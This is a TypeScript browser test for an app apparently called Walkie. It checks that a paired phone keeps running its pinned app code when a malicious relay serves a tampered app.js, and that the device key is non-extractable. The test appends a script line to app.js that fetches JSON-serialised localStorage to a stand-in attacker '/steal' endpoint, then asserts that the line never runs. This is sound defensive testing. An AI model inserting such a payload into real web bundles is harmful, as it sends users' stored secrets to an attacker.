// The evil relay (issue 9, item 3) in Chromium: a relay operator changes the app.js it serves after the
// phone paired. The phone keeps running the code it pinned (webview-ui/sw/sw.ts), the injected script never
// runs, nothing reaches the attacker's server, and the device key could not have been read anyway: it is a
// non-extractable WebCrypto key (webview-ui/transport/deviceKeys.ts). A bundle the paired host vouches for
// over the encrypted channel (feature `appPin`) is the only way new code gets activated.
//
// The relay (in process, serving its own copy of the app) and the host (in process, with its own copy, as
// a user's computer has) are separate, as they are for a user with a hosted relay.
import assert from 'node:assert/strict';
import nodeCrypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { RelayServer } from '../../src/relay/relayServer';
import { FileStateStore } from '../../src/node/host/fileStateStore';
import { WalkieHost } from '../../src/node/host/walkieHost';
import { launchBrowser } from './browser';
import { DIST, eventually, PHONE } from './webuiHarness';

const SHELL = ['index.html', 'app.js', 'app.css', 'manifest.webmanifest', 'icon.svg', 'icon-192.png', 'icon-512.png'];

/** A copy of the built app, as a relay operator or a user's computer has it. */
function copyApp(to: string): void {
  fs.mkdirSync(to, { recursive: true });
  for (const f of [...SHELL, 'sw.js', 'bundle.json']) fs.copyFileSync(path.join(DIST, f), path.join(to, f));
}

/** Rewrites bundle.json after a change, as anyone who changes the files can (it is not a secret). */
function rewriteManifest(dir: string): string {
  const files: Record<string, string> = {};
  for (const f of SHELL) files[f] = nodeCrypto.createHash('sha256').update(fs.readFileSync(path.join(dir, f))).digest('base64url');
  const body = JSON.stringify({ v: 1, files });
  fs.writeFileSync(path.join(dir, 'bundle.json'), body);
  return nodeCrypto.createHash('sha256').update(body).digest('base64url');
}

function appendToAppJs(dir: string, code: string): void {
  fs.appendFileSync(path.join(dir, 'app.js'), `\n;${code}\n`);
}

function get(url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (body += c));
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}

describe('the phone pins its app: an evil relay cannot change the code or learn the key (Chromium)', function () {
  this.timeout(60_000);
  let scratch: string;
  let relayDir: string;
  let hostDir: string;
  let relay: RelayServer;
  let relayOrigin: string;
  let host: WalkieHost;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let collector: http.Server;
  let collectorUrl: string;
  const stolen: string[] = [];

  before(async () => {
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'walkie-pin-'));
    relayDir = path.join(scratch, 'relay-web');
    hostDir = path.join(scratch, 'host-web');
    copyApp(relayDir);
    copyApp(hostDir);
    relay = new RelayServer({ host: '127.0.0.1', webRoot: relayDir });
    const { port } = await relay.start();
    relayOrigin = `http://127.0.0.1:${port}`;
    host = await WalkieHost.start({
      store: new FileStateStore(path.join(scratch, 'state')),
      relay: { kind: 'external', url: relayOrigin },
      hostName: 'pinned host',
      webRoot: hostDir,
    });
    // Where the attacker wants the phone's secrets: another origin on this machine.
    collector = http.createServer((req, res) => {
      stolen.push(req.url ?? '');
      res.setHeader('access-control-allow-origin', '*');
      res.end('ok');
    });
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    browser = await launchBrowser();
    context = await browser.newContext(PHONE);
    page = await context.newPage();
  });

  after(async () => {
    await context?.close().catch(() => {});
    await browser?.close();
    host?.dispose();
    await relay?.close();
    collector?.close();
    if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
  });

  const online = () => page.locator('[data-testid="conn"].conn-online').waitFor({ timeout: 20_000 });

  it('pairs with a sealed device key that page script cannot read, and installs the pinning service worker', async () => {
    await page.goto(host.newPairingUrl().url);
    await page.getByLabel('Name this device').fill('Pinned phone');
    await page.getByTestId('pair').tap();
    await page.getByTestId('sas').waitFor();
    await page.getByRole('button', { name: 'They match' }).tap();
    await online();
    const stored = await page.evaluate(() => {
      const key = Object.keys(localStorage).find((k) => k.startsWith('walkie.host.'))!;
      return JSON.parse(localStorage.getItem(key)!) as Record<string, unknown>;
    });
    assert.equal(stored.sealedKey, true);
    assert.equal(stored.deviceSecretKey, undefined, 'no readable secret in localStorage');
    const key = await page.evaluate(async (hostId) => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const r = indexedDB.open('walkie');
        r.onsuccess = () => resolve(r.result);
        r.onerror = () => reject(r.error);
      });
      const rec = await new Promise<{ privateKey: CryptoKey }>((resolve, reject) => {
        const r = db.transaction('deviceKeys').objectStore('deviceKeys').get(hostId);
        r.onsuccess = () => resolve(r.result as { privateKey: CryptoKey });
        r.onerror = () => reject(r.error);
      });
      const tryExport = (format: 'pkcs8' | 'jwk' | 'raw') => crypto.subtle.exportKey(format, rec.privateKey).then(() => 'exported', (e: Error) => e.name);
      return { algorithm: rec.privateKey.algorithm.name, extractable: rec.privateKey.extractable, pkcs8: await tryExport('pkcs8'), jwk: await tryExport('jwk') };
    }, stored.hostId as string);
    assert.deepEqual(key, { algorithm: 'X25519', extractable: false, pkcs8: 'InvalidAccessError', jwk: 'InvalidAccessError' });
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    assert.equal(host.connectedDevices().length, 1);
  });

  it('keeps running the pinned app when the relay serves a changed app.js: the injected script never runs', async () => {
    appendToAppJs(relayDir, `window.__evil = 1; document.title = 'pwned'; fetch(${JSON.stringify(collectorUrl)} + '/steal?' + encodeURIComponent(JSON.stringify(localStorage)), { mode: 'no-cors' });`);
    rewriteManifest(relayDir);
    assert.ok((await get(`${relayOrigin}/app.js`)).includes('__evil'), 'the relay really serves the changed file');
    for (let i = 0; i < 2; i++) {
      await page.reload();
      await online();
    }
    assert.equal(await page.evaluate(() => (window as unknown as { __evil?: number }).__evil), undefined);
    assert.notEqual(await page.title(), 'pwned');
    assert.equal(await page.evaluate(() => navigator.serviceWorker.controller !== null), true, 'the page was served by the pinning worker');
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(stolen, []);
    assert.equal(await page.getByTestId('app-update').count(), 0, 'the host vouches for the pinned app: nothing to update');
  });

  it('refuses an update the host did not vouch for, and runs one it did after a reload', async () => {
    // The user updates Walkie on the computer; this relay still serves the attacker's files.
    appendToAppJs(hostDir, 'window.__walkieV2 = 1;');
    const v2 = rewriteManifest(hostDir);
    await page.reload();
    await online();
    await page.getByTestId('app-mismatch').waitFor({ timeout: 20_000 });
    assert.equal(await page.evaluate(() => (window as unknown as { __evil?: number }).__evil), undefined);

    // The relay operator installs the same update: now the bundle it serves is the one the host vouches for.
    copyApp(relayDir);
    appendToAppJs(relayDir, 'window.__walkieV2 = 1;');
    assert.equal(rewriteManifest(relayDir), v2);
    await page.reload();
    await online();
    await page.getByTestId('app-update').waitFor({ timeout: 20_000 });
    await page.getByRole('button', { name: 'Reload' }).tap();
    // The reload navigates: an evaluate that meets it is simply tried again.
    await eventually(() => page.evaluate(() => (window as unknown as { __walkieV2?: number }).__walkieV2 === 1).catch(() => false), 20_000);
    await online();
    assert.deepEqual(stolen, []);
  });
});
